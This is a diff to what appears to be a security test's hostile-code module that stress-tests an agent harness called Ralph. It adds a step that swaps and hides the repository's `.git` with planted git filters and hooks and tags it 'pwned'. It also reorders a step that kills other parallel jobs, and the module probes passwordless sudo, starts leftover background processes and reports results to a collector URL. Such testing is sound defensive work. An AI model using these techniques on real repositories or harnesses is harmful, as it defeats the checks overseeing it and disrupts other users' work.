@@ -12,7 +12,7 @@
 //
 // Env (the test gives it to every step): ATTACK_WAY (agent, setup or gate), ATTACK_URL (the
 // test's collector: every report is POSTed there, a network path no sandbox here closes),
-// ATTACK_SHARE (a folder every user may write: markers/, bin/, kill/, hb/, away/ and a copy of
+// ATTACK_SHARE (a folder every user may write: markers/, bin/, kill/, hb/ and a copy of
 // this file), ATTACK_LEGS (how many task jobs run at once). Each report carries `leg`, a hash
 // of the work tree's path, which the test maps back to the job.
 //
@@ -177,7 +177,7 @@ function gitConfigText(prefix = '') {
     `[include]\n\tpath = ${include}\n`
   );
 }
-const ATTRIBUTES = '* filter=x diff=x\n*.md filter=y\n*.txt filter=inc diff=inc\n';
+const ATTRIBUTES = '* filter=x diff=x\nnotes.md filter=y\n*.txt filter=inc diff=inc\n';
 /** Plants the programs into a git directory: config, info/attributes, hooks. */
 function plantGitDir(dir) {
   const done = [];
@@ -211,36 +211,49 @@ const canaryFiles = () => [
 
 /**
  * Which attacks this job's hostile code tries, by task (the setup step does not know its task:
- * it tries them all): h-* the repository and the state outside the patch (its gates must run,
- * so it changes no path Ralph refuses at once), p-* the patch rules, r-* an edit of the plan
- * (Ralph's own warning after the agent's output). Every job tries the process attacks.
+ * it tries them all): g-* the swap of `.git` (which breaks Ralph's git where it works), h-* the
+ * programs planted where Ralph's `.git` is and the state outside the patch (its gates must
+ * run, so it changes no path Ralph refuses at once), p-* the patch rules, r-* an edit of the
+ * plan (Ralph's own warning after the agent's output). Every job tries the process attacks.
  */
 const role = task ? task[0] : 'all';
 const does = (r) => role === 'all' || role === r;
 
 async function heavyAttacks() {
   mkdirSync(bin, { recursive: true });
+  if (does('g')) await swapGit();
   if (does('h')) await repositoryAndState();
   await processes();
   if (does('p')) await patchFiles();
   await attempt('sudo', () => execFileSync('sudo', ['-n', 'true'], { stdio: 'pipe' }).toString());
 }
 
-async function repositoryAndState() {
+async function swapGit() {
+  // a. Ralph's repository swapped for a copy of ours, with every program planted in it.
   if (mode === 'agent') writeFileSync('notes.md', 'notes of the work\n');
-  // a. Ralph's repository: plant into whatever .git is there, then swap it for one of ours.
-  await attempt('a.plant-existing-git', () => plantGitDir(gitDirOf('.git')));
   await attempt('a.swap-git', () => {
-    const away = join(share, 'away', `${leg}-${mode}`);
-    const original = existsSync('.git') ? gitDirOf('.git') : undefined;
-    renameSync('.git', away);
+    // Within the work tree: moving a directory to another parent needs write access to it
+    // (its `..`), renaming it in place needs only the work tree's.
+    const original = gitDirOf('.git');
+    renameSync('.git', '.git-away');
     try {
-      cpSync(lstatSync(away).isDirectory() ? away : original, '.git', { recursive: true });
+      cpSync(original === resolve('.git') ? '.git-away' : original, '.git', { recursive: true });
     } catch {
       execFileSync('git', ['init', '-q', '.'], { stdio: 'ignore' });
     }
-    return { away, planted: plantGitDir('.git') };
+    // Ralph's git, on this copy, does not see the original.
+    mkdirSync('.git/info', { recursive: true });
+    appendFileSync('.git/info/exclude', '/.git-away/\n');
+    return plantGitDir('.git');
   });
+  await attempt('a.tag-in-swapped', () =>
+    execFileSync('git', ['tag', `pwned-swapped-${leg}`], { stdio: 'pipe' }).toString(),
+  );
+}
+
+async function repositoryAndState() {
+  // a. Ralph's repository: plant into whatever .git is there.
+  await attempt('a.plant-existing-git', () => plantGitDir(gitDirOf('.git')));
   await attempt('a.gitattributes', () => writeFileSync('.gitattributes', ATTRIBUTES));
   await attempt('a.tag', () => execFileSync('git', ['tag', `pwned-${leg}`], { stdio: 'pipe' }).toString());
   await attempt('a.push', () =>
@@ -316,6 +329,7 @@ async function processes() {
     }
     return hits;
   });
+  await attempt('d.kill-other-jobs', killOtherJobs);
   await attempt('d.leftover', () => {
     mkdirSync(join(share, 'hb'), { recursive: true });
     const beats = join(share, 'hb', `${leg}-${mode}`);
@@ -324,7 +338,6 @@ async function processes() {
     child.unref();
     return 'started';
   });
-  await attempt('d.kill-other-jobs', killOtherJobs);
 }
 
 async function patchFiles() {
@@ -363,7 +376,7 @@ async function killOtherJobs() {
   writeFileSync(join(dir, `${leg}.pid`), String(sleeper.pid));
   const legs = Number(process.env.ATTACK_LEGS ?? '1');
   const count = (suffix) => readdirSync(dir).filter((f) => f.endsWith(suffix)).length;
-  for (let i = 0; i < 60 && count('.pid') < legs; i++) await sleep(100);
+  for (let i = 0; i < 40 && count('.pid') < legs; i++) await sleep(100);
   const mine = new Set([process.pid, sleeper.pid]);
   for (let pid = process.ppid; pid > 1; ) {
     mine.add(pid);
@@ -392,7 +405,7 @@ async function killOtherJobs() {
     }
   }
   writeFileSync(join(dir, `${leg}.done`), JSON.stringify(killed));
-  for (let i = 0; i < 40 && count('.done') < legs; i++) await sleep(100);
+  for (let i = 0; i < 20 && count('.done') < legs; i++) await sleep(100);
   const survived = sleeper.exitCode === null && sleeper.signalCode === null;
   sleeper.kill('SIGKILL');
   return { survived, killed, peers: others.size };
